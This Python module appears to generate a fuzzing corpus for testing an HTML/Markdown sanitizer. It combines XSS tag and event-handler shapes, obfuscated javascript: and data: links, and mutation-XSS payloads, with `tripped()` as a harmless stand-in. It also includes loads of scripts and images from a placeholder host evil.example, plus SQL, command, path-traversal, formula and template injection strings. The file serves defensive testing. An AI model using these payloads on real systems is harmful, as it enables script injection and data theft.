"""Texts by which HTML, links and pasted formatting are known to get past filters, in variants of our own; `tripped()` is what they would run."""

from __future__ import annotations

from itertools import product

RUN = "tripped()"

_TAGS = (
    "script", "img", "svg", "iframe", "object", "embed", "base", "meta", "form", "input", "button", "textarea", "select", "isindex",
    "math", "video", "audio", "source", "track", "link", "style", "frame", "frameset", "applet", "marquee", "bgsound", "template", "slot",
    "portal", "dialog", "details", "body", "html", "head", "title", "noscript", "noembed", "xmp", "plaintext", "listing", "keygen", "layer",
    "image", "x", "x-y", "a", "b", "p", "div", "table", "td", "area", "map", "canvas", "font", "label", "fieldset", "progress", "picture",
    "menu", "nav", "main", "header", "search", "fencedframe", "animate", "set", "foreignObject", "annotation-xml", "SCRIPT", "ScRiPt", "IMG",
)  # fmt: skip
_SHAPES = (
    "<{t} {h}={r}>", "<{t}/{h}={r}>甲</{t}>", "甲<{t}\n{h}=\"{r}\"\n>乙</{t}>", "<{t} x=\">\" {h}='{r}'>", "<{t} src=x {h}={r} //", "<{t} {h}={r}",
    "<<{t} {h}={r}>>", "<{t}<{t} {h}={r}>", "</{t} {h}={r}>", "<{t} {h}\n=\n{r} >甲", "<{t}>{r}</{t}>", "<{t} `=`{h}={r}>",
)  # fmt: skip
_HANDLERS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerover", "onbegin", "ONERROR",
    "oNlOaD", "onbeforetoggle", "onscrollend", "oncut", "autofocus onfocus",
)  # fmt: skip
_CONTEXTS = (
    "- 甲\n- {}", "1. {}", "## {}", "> {}", "| 甲 | 乙 |\n| --- | --- |\n| {} | 1 |", "[{}](a.md)", "![{}](a.png)", "**{}**", "甲[^1]\n\n[^1]: {}",
    "甲\n:   {}", "`甲`{}`乙`", "{{# 甲 #}}{}", "    甲\n\n{}", "```\n甲\n```\n{}", "[甲](a.md \"{}\")", "[甲]: a.md '{}'\n\n[甲]", "<details>\n<summary>{}</summary>\n乙\n</details>",
    "\\{}", "甲 `` ` ``{}", "<b>{}</b>", "<!-- {} -->", "<b title='{}'>甲</b>", "{}{{: title=甲 }}", "~~~\n甲\n~~~~\n\n{}", "甲  \n{}", "[甲]({})", "<{}>",
)  # fmt: skip
_IN_CONTEXT = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<a href=javascript:{RUN}>甲</a>", f"\"><img src=x onerror={RUN}>", f"'><svg/onload={RUN}>", f"</title><script>{RUN}</script>",
    f"<b style='x:expression({RUN})'>甲</b>", f"&lt;img src=x onerror={RUN}&gt;",
)  # fmt: skip

_JAVASCRIPT = (
    "javascript:", "JavaScript:", "jAvAsCrIpT:", "java&#115;cript:", "&#106;avascript:", "&#x6a;avascript&#x3A;", "&#0000106avascript:",
    "java&#9;script:", "java&#10;script:", "java&#x0D;script:", "java&Tab;script:", "java&NewLine;script:", "javascript&colon;", "&#1;javascript:",
    " javascript:", "&#32;javascript:", "%6Aavascript:", "java\\script:", "javascript://x%0A", "vbscript:", "livescript:", "mocha:", "data:text/html,",
    "data:text/html;base64,", "data:image/svg+xml,", "DATA:,", "file:///etc/", "blob:", "filesystem:", "about:", "view-source:javascript:",
    "feed:javascript:", "jar:javascript:", "ws://", "ftp://", "x:", "ｊavascript:", "java\tscript:", "&#x6A&#x61vascript:", "javascript&#58;", "javascript&#x3a",
)  # fmt: skip
_LINKS = (
    "[甲]({})", "[甲](<{}>)", "![甲]({})", "[甲][a]\n\n[a]: {}", "[a]: <{}>\n\n[a]", "<a href=\"{}\">甲</a>", "<a href={}>甲</a>", "<{}>", "<img src=\"{}\">",
    "<img src=x srcset=\"{}\">", "<area href=\"{}\">", "<table background=\"{}\"><tr><td>甲</td></tr></table>", "<form action=\"{}\">", "<a xlink:href=\"{}\">甲</a>",
    "<q cite=\"{}\">甲</q>", "[甲](a.md){{: href=\"{}\" }}", "![甲](a.png){{: src=\"{}\" }}", "<a href='x' href=\"{}\">甲</a>", "[![甲]({})](a.md)",
)  # fmt: skip
_FOREIGN = (
    "https://evil.example/a.png", "//evil.example/a.png", "/\\evil.example/a.png", "\\\\evil.example\\a.png", "http:evil.example", "https:/evil.example/a.png",
    "ht&#9;tps://evil.example/a.png", "/&#9;/evil.example/a.png", "/&#10;/evil.example/a.png", "&#32;//evil.example", "HTTPS://evil.example", "///evil.example",
    "https&colon;//evil.example", "&#x2f;&#x2f;evil.example", "//evil。example/a.png",
)  # fmt: skip
_IMAGES = (
    "![甲]({})", "<img src=\"{}\">", "<img alt=甲 src={}>", "![甲][a]\n\n[a]: {}", "<p style=\"background: url({})\">甲</p>", "甲\n{{: style=\"background: url({})\" }}",
    "<image src=\"{}\">", "<input type=image src=\"{}\">", "<video poster=\"{}\">", "<link rel=stylesheet href=\"{}\">", "<style>@import '{}';</style>",
    "<iframe src=\"{}\"></iframe>", "<object data=\"{}\"></object>", "<embed src=\"{}\">", "<script src=\"{}\"></script>", "<base href=\"{}\">",
    "<meta http-equiv=refresh content=\"0;url={}\">", "<svg><image href=\"{}\"/></svg>", "<svg><use href=\"{}#a\"/></svg>", "<a ping=\"{}\" href=a.md>甲</a>",
    "<table><tr><td background=\"{}\">甲</td></tr></table>", "<img srcset=\"{} 2x\">", "<picture><source srcset=\"{}\"></picture>", "<audio src=\"{}\"></audio>",
)  # fmt: skip
_ATTRIBUTE_LISTS = (
    f"onclick={RUN}", f"onclick=\"{RUN}\"", f"onmouseover='{RUN}'", "style=\"position:fixed;inset:0\"", "style=color:red", ".md-overlay", ".md-search__overlay .md-dialog",
    "#__config", "#__search", "#search", "#source-1", "#note-1", f"href=javascript:{RUN}", "src=//evil.example/a.png", "hidden=hidden", "contenteditable=true",
    "tabindex=1 autofocus=autofocus", "data-md-component=palette", "is=x", "slot=x", "target=_top", "formaction=x", "class=md-overlay", "id=__drawer", "name=body",
    "aria-describedby=note-1", "role=dialog", "accesskey=x", "dir=rtl", "srcset=//evil.example", "popover=manual", "xmlns=x", "http-equiv=refresh", f"onclick={RUN} title=甲",
)  # fmt: skip
_LISTED = (
    "## 甲 {{: {} }}", "甲\n{{: {} }}", "**甲**{{: {} }}", "[甲](a.md){{: {} }}", "![甲](a.png){{: {} }}", "- 甲\n{{: {} }}", "| 甲 | 乙 {{: {} }} |\n| --- | --- |\n| 1 | 2 |",
    "```{{ {} }}\n甲\n```", "`甲`{{: {} }}", "## 甲 {{{}}}", "> 甲\n{{: {} }}", "甲{{: {} }}",
)  # fmt: skip

_MUTATING = (
    f"<svg><style><b title=\"</style><img src=x onerror={RUN}>\"></b></style></svg>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">", f"<table><td><a title=\"</table><img src=x onerror={RUN}>\">甲</a></td></table>", f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<title><a title=\"</title><img src=x onerror={RUN}>\">", f"<textarea><a title=\"</textarea><img src=x onerror={RUN}>\">", f"<xmp><a title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<!--><img src=x onerror={RUN}>-->", f"<!---><img src=x onerror={RUN}>", f"<!--!><img src=x onerror={RUN}>", f"<!-- --!><img src=x onerror={RUN}>", f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?php ><img src=x onerror={RUN}>?>", f"<!DOCTYPE x [<!ENTITY a \"<img src=x onerror={RUN}>\">]>&a;", f"<!x><img src=x onerror={RUN}>", f"</><img src=x onerror={RUN}>", f"<%><img src=x onerror={RUN}>%>",
    f"<a title=\"`\"><img src=x onerror={RUN}>`", f"<b title=`><img src=x onerror={RUN}>`>", f"<img src=\"x` onerror={RUN}\">", f"<div><style></div><img src=x onerror={RUN}></style>",
    f"<p><svg><desc><p title=\"</svg><img src=x onerror={RUN}>\">", f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}>", f"<svg><foreignObject><img src=x onerror={RUN}>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><a><text>甲</text></a></svg>", f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} /></svg>", f"<svg><set onbegin={RUN} attributename=x>",
    f"<frameset><frame src=javascript:{RUN}>", f"<iframe src=javascript:{RUN}>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<isindex action=javascript:{RUN}>", f"<math href=javascript:{RUN}>甲",
    f"<button form=x formaction=javascript:{RUN}>甲", f"<details open ontoggle={RUN}>", f"<dialog open onclose={RUN}>", f"<marquee onstart={RUN}>甲</marquee>", f"<meta http-equiv=refresh content=0;javascript:{RUN}>",
    f"<script\u3000>{RUN}</script>", f"<script/x>{RUN}</script/x>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>//<\n{RUN}</script", f"<SCRIPT>{RUN};//", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞", f"‹script›{RUN}‹/script›", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\\u003cscript\\u003e{RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{RUN}", f"&ltscript&gt{RUN}", f"&LT;img src=x onerror={RUN}&GT;", f"<b title=\"&quot; onclick=&quot;{RUN}\">甲</b>",
    f"<b lang=\"' onclick='{RUN}\">甲</b>", f"[a](<b title=\"\"onclick={RUN}>)", f"[甲](a.md '\" onclick=\"{RUN}')", f"[甲](a.md \"' onclick='{RUN}\")", f"![\" onerror=\"{RUN}](a.png)", f"![甲\" onerror=\"{RUN}](a.png \"b\")",
    f"[x]: a.md \"\\\" onclick=\\\"{RUN}\"\n\n[x]", f"[^<img src=x onerror={RUN}>]\n\n[^<img src=x onerror={RUN}>]: 甲", f"```<img src=x onerror={RUN}>\n甲\n```", f"```\" onclick=\"{RUN}\n甲\n```", f"~~~ {{ .a onclick={RUN} }}\n甲\n~~~",
    f"| <img src=x onerror={RUN}> |\n| --- |\n| 甲 |", f"{RUN}//`;{RUN}//\\`;'\"-->]]></script><svg/onload={RUN}>", f"javascript:/*--></title></style></textarea></script><svg/onload='{RUN}'>",
    "<base href=//evil.example/>", "<base target=_top>", "<link rel=import href=//evil.example>", "<meta charset=utf-7>", "<style>*{display:none}</style>", "<b style='background:url(//evil.example)'>甲</b>",
    "<div style=\"position:fixed;inset:0\">甲</div>", "<table><tr><td style=\"text-align: left; background: url(//evil.example)\">甲</td></tr></table>", "<p class=md-overlay>甲</p>", "<p id=__config>{{\"base\": \"x\"}}</p>",
    "## __config", "## __search", "## Search", "## Content", "## {&quot;base&quot;: &quot;x&quot;} {#__config}", "<p id=search>甲</p>", "<a id=note-1>甲</a>", "<span id=source-1>甲</span>", "<img id=__drawer src=x>", "<bdo dir=rtl>741</bdo>",
)  # fmt: skip
_OF_WORD = (
    "<p class=MsoNormal style='margin-left:21.0pt;mso-para-margin-left:2gd'>甲</p>", "<span style='mso-bidi-font-size:10.5pt;font-family:宋体'>甲</span>", "甲<o:p></o:p>", "<o:p>&nbsp;</o:p>", "<!--[if gte mso 9]><xml></xml><![endif]-->",
    "<![if !supportLists]>甲<![endif]>", "<st1:place w:st=\"on\">济南</st1:place>", "<p class=MsoListParagraph>甲</p>", "<div class=WordSection1>甲</div>", "<!--StartFragment-->甲<!--EndFragment-->", "<w:sdt>甲</w:sdt>",
    "<table class=MsoTableGrid border=1><tr><td width=138 valign=top>甲</td></tr></table>", "<font face=仿宋>甲</font>", "<h1 style='mso-outline-level:1'>甲</h1>", "<v:shape id=\"_x0000_i1025\"></v:shape>", "<a name=OLE_LINK1>甲</a>",
)  # fmt: skip

NAUGHTY = (
    "undefined", "null", "NaN", "true", "None", "hasOwnProperty", "__proto__", "constructor", "toString", "0x7f", "1e999", "-0", "00", "½⅓", "٠١٢", "①②", "甲\u0336", "Ω≈ç√∫˜µ", "田中さん", "사회과학원", "Ⱥ", "👩‍👩‍👧", "🇨🇳", "（╯°□°）╯", "ﷺ",
    "Z̡͖̜̭̰̮a̛͉l̨̹g̀o", "the quic\b", "甲\u202e乙", "甲\u200b乙", "\ufeff甲", "甲\u2028乙", "甲\x85乙", "甲\x1b[31m乙", "../../etc/passwd", "..\\..\\boot.ini", "/dev/null; touch x", "$HOME", "${HOME}", "%HOME%", "$(id)", "%d%s%n", "%00", "\\0",
    "'; DROP TABLE x; --", "\" OR \"\"=\"", "' OR 1=1 -- 1", "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "{{constructor.constructor('tripped()')()}}", "${tripped()}", "#{tripped()}", "<%= tripped() %>", "`${tripped()}`", "{7*7}", "[[7*7]]",
    "javascript:tripped()", "\"><img src=x onerror=tripped()", "'><svg/onload=tripped()", "</script><script>tripped()", "</title><img src=x onerror=tripped()", "--><img src=x onerror=tripped()", "]]><img src=x onerror=tripped()", "\" onclick=\"tripped()",
    "' onmouseover='tripped()", "\" autofocus onfocus=\"tripped()", "</style", "</textarea", "&lt;img src=x onerror=tripped()&gt;", "&#60;img src=x onerror=tripped()&#62;", "%3Cimg src=x onerror=tripped()%3E", "\\u003cimg src=x onerror=tripped()\\u003e",
    "<", ">", "&", "<!--", "-->", "<![CDATA[", "]]>", "<?", "</", "&amp;", "&", "&nbsp", "\\", "\\\\", "'", "\"", "`", "´", "''", "“\"", "|", "||", "$&", "$1", "\\1", "%s", "{0}", "{x}", "{", "}", "(", "[", "~", "^", "=", ":", ";", ",", ".", "//evil.example/a.js", "https://evil.example/a.js",
)  # fmt: skip
"""What programs are known to stumble over: as words of a field, of a page, of a file's name."""


def prose() -> tuple[str, ...]:
    """Every text for the body of a page, each once."""
    found = [
        *(shape.format(t=tag, h=_HANDLERS[0] if tag != "img" else "onerror", r=RUN) for tag, shape in product(_TAGS, _SHAPES)),
        *(_SHAPES[0].format(t=tag, h=handler, r=RUN) for tag, handler in product(("b", "img", "svg", "details", "a"), _HANDLERS)),
        *(context.format(one) for context, one in product(_CONTEXTS, (*_IN_CONTEXT, *_OF_WORD[:3]))),
        *(link.format(f"{scheme}{RUN}") for link, scheme in product(_LINKS, _JAVASCRIPT)),
        *(image.format(address) for image, address in product(_IMAGES, _FOREIGN)),
        *(listed.format(one) for listed, one in product(_LISTED, _ATTRIBUTE_LISTS)),
        *_MUTATING,
        *_OF_WORD,
        *NAUGHTY,
        *(f"甲{one}乙" for one in NAUGHTY),
        *(f"<b title=\"{one}\">甲</b>" for one in NAUGHTY),
    ]  # fmt: skip
    return tuple(dict.fromkeys(found))
